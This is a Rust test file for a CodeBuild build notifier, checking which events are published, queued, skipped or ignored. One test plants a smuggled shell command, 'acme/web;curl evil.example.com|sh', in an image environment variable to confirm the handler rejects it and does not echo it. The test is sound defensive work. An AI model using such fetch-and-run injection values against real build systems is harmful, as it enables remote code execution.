//! Real CodeBuild event shapes through the notifier's handler with in-memory sinks: what is
//! published, queued, skipped and ignored. (The same events against SNS and SQS on moto are in
//! `moto.rs`.)

use serde_json::json;
use slipway_core::notify::{MAX_SUBJECT_CHARS, NotifyConfig};
use slipway_notifier::handle_event;

mod common;
use common::{Recorder, cfg, fixture};

#[tokio::test]
async fn the_documented_sample_is_not_a_slipway_build_and_is_acknowledged_quietly() {
    let sinks = Recorder::default();
    let r = handle_event(&fixture("sample.json"), &cfg(), &sinks).await;
    assert_eq!(r["status"], "ignored");
    assert_eq!(r["code"], "event_not_slipway");
    assert!(sinks.published.lock().unwrap().is_empty());
    assert!(sinks.jobs.lock().unwrap().is_empty());
    assert!(sinks.statuses.lock().unwrap().is_empty());
}

#[tokio::test]
async fn malformed_events_are_acknowledged_and_nothing_is_said_about_them() {
    let mut hostile = fixture("succeeded.json");
    let vars = hostile["detail"]["additional-information"]["environment"]["environment-variables"]
        .as_array_mut()
        .unwrap();
    for v in vars.iter_mut() {
        if v["name"] == "SLIPWAY_IMAGE" {
            v["value"] = json!("acme/web;curl evil.example.com|sh");
        }
    }
    let mut unknown_status = fixture("succeeded.json");
    unknown_status["detail"]["build-status"] = json!("EXPLODED");
    let mut no_status = fixture("failed.json");
    no_status["detail"]
        .as_object_mut()
        .unwrap()
        .remove("build-status");
    let mut phase_change = fixture("succeeded.json");
    phase_change["detail-type"] = json!("CodeBuild Build Phase Change");
    let cases = [
        (json!(null), "event_not_object"),
        (json!("SUCCEEDED"), "event_not_object"),
        (json!({}), "event_field_missing"),
        (
            json!({"detail-type": "CodeBuild Build State Change", "detail": 7}),
            "event_field_missing",
        ),
        (hostile, "build_env_invalid"),
        (unknown_status, "event_status_unknown"),
        (no_status, "event_field_missing"),
        (phase_change, "event_not_build_state_change"),
    ];
    for (event, code) in cases {
        let sinks = Recorder::default();
        let r = handle_event(&event, &cfg(), &sinks).await;
        assert_eq!(r["status"], "ignored", "{event}");
        assert_eq!(r["code"], code, "{event}");
        assert!(
            !r["reason"].as_str().unwrap().contains("evil.example.com"),
            "the reason never repeats a hostile value: {r}"
        );
        assert!(sinks.published.lock().unwrap().is_empty(), "{event}");
        assert!(sinks.jobs.lock().unwrap().is_empty(), "{event}");
        assert!(sinks.deploys.lock().unwrap().is_empty(), "{event}");
        assert!(sinks.statuses.lock().unwrap().is_empty(), "{event}");
    }
}

#[tokio::test]
async fn a_success_queues_its_children_calls_its_deploy_targets_and_sets_the_status() {
    let sinks = Recorder::default();
    let r = handle_event(&fixture("succeeded.json"), &cfg(), &sinks).await;
    assert_eq!(r["publish"], "published");
    assert_eq!(r["commit_status"], "set");
    let jobs = sinks.jobs.lock().unwrap().clone();
    let images: Vec<&str> = jobs.iter().map(|j| j.images[0].as_str()).collect();
    assert_eq!(images, ["acme/web-debug", "acme/web-slim"]);
    for j in &jobs {
        assert_eq!(j.commit, "6113728f27ae82c7b1a177c8d03f9e96e0adf246");
        assert_eq!(j.git_ref, "refs/heads/main");
        assert_eq!(j.default_branch, "main");
        assert!(
            matches!(&j.trigger, slipway_core::Trigger::Parent { image, build_id }
            if image == "acme/web" && build_id.ends_with(":0bd0c2a5-9e5c-4b0e-8f43-6b1f1c2e7a11"))
        );
    }
    assert_eq!(*sinks.deploys.lock().unwrap(), ["prod-web", "staging-web"]);
    let statuses = sinks.statuses.lock().unwrap().clone();
    assert_eq!(statuses.len(), 1);
    assert_eq!(statuses[0].state, "success");
    assert_eq!(statuses[0].context, "slipway/acme/web");
    assert_eq!(statuses[0].description, "pushed :main in 1m 59s");
    let n = sinks.published.lock().unwrap()[0].clone();
    assert_eq!(n.subject, "✔ acme/web:main built");
    assert!(
        n.text.contains("Child queued:   acme/web-debug\n"),
        "{}",
        n.text
    );
    assert!(
        n.text
            .contains("Deploy prod-web: delivered after 1 attempt, HTTP 202\n")
    );
    assert_eq!(n.json["digest"], format!("sha256:{}", "4f".repeat(32)));
    assert_eq!(n.json["duration_seconds"], 119);
    assert_eq!(n.chatbot["version"], "1.0");
    assert_eq!(n.chatbot["source"], "custom");
    assert_eq!(n.chatbot["content"]["title"], "✔ acme/web:main built");
}

#[tokio::test]
async fn a_failure_queues_no_child_names_the_parent_and_the_failing_phase() {
    for (fixture_name, verb, state) in [
        ("failed.json", "failed", "failure"),
        ("stopped.json", "stopped", "error"),
    ] {
        let sinks = Recorder::default();
        let r = handle_event(&fixture(fixture_name), &cfg(), &sinks).await;
        assert!(sinks.jobs.lock().unwrap().is_empty(), "{fixture_name}");
        assert!(
            sinks.deploys.lock().unwrap().is_empty(),
            "no deploy after a {verb} build"
        );
        assert_eq!(
            r["children"]["skipped"],
            json!(["acme/web-debug", "acme/web-slim"])
        );
        assert_eq!(sinks.statuses.lock().unwrap()[0].state, state);
        let n = sinks.published.lock().unwrap()[0].clone();
        assert_eq!(n.subject, format!("✘ acme/web:main {verb}"));
        assert!(
            n.text.contains(&format!(
                "Child skipped:  acme/web-debug (parent acme/web {verb})\n"
            )),
            "{}",
            n.text
        );
        assert!(n.text.contains("Failed in:  BUILD ("), "{}", n.text);
    }
}

#[tokio::test]
async fn in_progress_is_reported_only_when_configured() {
    let sinks = Recorder::default();
    let r = handle_event(&fixture("in_progress.json"), &cfg(), &sinks).await;
    assert_eq!(r["publish"], "not_published");
    assert!(sinks.published.lock().unwrap().is_empty());
    assert!(sinks.statuses.lock().unwrap().is_empty());

    let on = NotifyConfig {
        in_progress: true,
        commit_status: true,
    };
    let r = handle_event(&fixture("in_progress.json"), &on, &sinks).await;
    assert_eq!(r["publish"], "published");
    assert_eq!(sinks.statuses.lock().unwrap()[0].state, "pending");
    assert!(
        sinks.jobs.lock().unwrap().is_empty(),
        "children wait for the result"
    );
    assert_eq!(
        sinks.published.lock().unwrap()[0].subject,
        "▶ acme/web:main building"
    );
}

#[tokio::test]
async fn a_200_character_image_name_keeps_the_subject_within_the_limit() {
    let name = format!("registry.example.com/acme/{}/web", "a".repeat(200 - 30));
    assert_eq!(name.len(), 200);
    let mut event = fixture("failed.json");
    for v in event["detail"]["additional-information"]["environment"]["environment-variables"]
        .as_array_mut()
        .unwrap()
    {
        if v["name"] == "SLIPWAY_IMAGE" {
            v["value"] = json!(name);
        }
    }
    let sinks = Recorder::default();
    handle_event(&event, &cfg(), &sinks).await;
    let n = sinks.published.lock().unwrap()[0].clone();
    assert!(
        n.subject.chars().count() <= MAX_SUBJECT_CHARS,
        "{}",
        n.subject
    );
    assert!(n.subject.starts_with("✘ …"), "{}", n.subject);
    assert!(n.subject.ends_with("/web:main failed"), "{}", n.subject);
    // The body and the attributes keep the whole name.
    assert!(n.text.contains(&format!("Image:      {name}\n")));
    assert!(n.attributes.contains(&("image", name.clone())));
}
